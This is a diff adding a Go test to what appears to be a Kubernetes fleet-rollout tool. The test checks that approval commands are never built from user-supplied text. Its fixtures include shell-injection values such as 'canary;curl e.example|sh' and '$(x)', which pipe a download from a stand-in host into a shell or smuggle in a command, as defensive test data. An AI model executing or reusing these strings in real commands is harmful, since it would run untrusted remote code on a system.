@@ -22,6 +22,25 @@ func TestAnAnalysisThatHasFailedIsShownSo(t *testing.T) {
 	}, builder{}.task(failed, "canary", "after"))
 }
 
+func TestTheCommandOfAnApprovalHasNothingThatUsersWrote(t *testing.T) {
+	const said = "1 of 2 votes: x; curl e.example | sh #"
+	waits := stagetask.State{Title: "approval", Approvable: true, WaitsSince: time.Date(2026, 11, 29, 9, 30, 5, 0, time.UTC), Message: said}
+	for name, test := range map[string]struct{ run, namespace, stage, command string }{
+		"of the hub":         {"web-2", "", "canary", "kubectl fleet approve web-2 --stage canary"},
+		"of a namespace":     {"web.2", "shop", "canary", "kubectl fleet approve web.2 --stage canary -n shop"},
+		"a stage of a shell": {"web-2", "shop", "canary;curl e.example|sh", ""},
+		"a run of a shell":   {"web-2 $(x)", "shop", "canary", ""},
+		"a run like a flag":  {"-web", "shop", "canary", ""},
+		"a new line":         {"web-2", "shop\nx", "canary", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			node := builder{run: hub.Run{Ref: hub.Ref{Kind: hub.KindRun, Namespace: test.namespace, Name: test.run}}}.task(waits, test.stage, "after")
+			assert.Equal(t, test.command, node.Command)
+			assert.True(t, strings.HasPrefix(node.Detail, said), node.Detail)
+		})
+	}
+}
+
 func TestAClusterThatIsNotAvailableForLongEnoughSaysUntilWhen(t *testing.T) {
 	since := metav1.NewTime(time.Date(2026, 11, 29, 9, 30, 5, 0, time.UTC))
 	conditions := []metav1.Condition{{Type: placementv1beta1.ConditionTypeAvailable, Status: metav1.ConditionTrue, LastTransitionTime: since}}
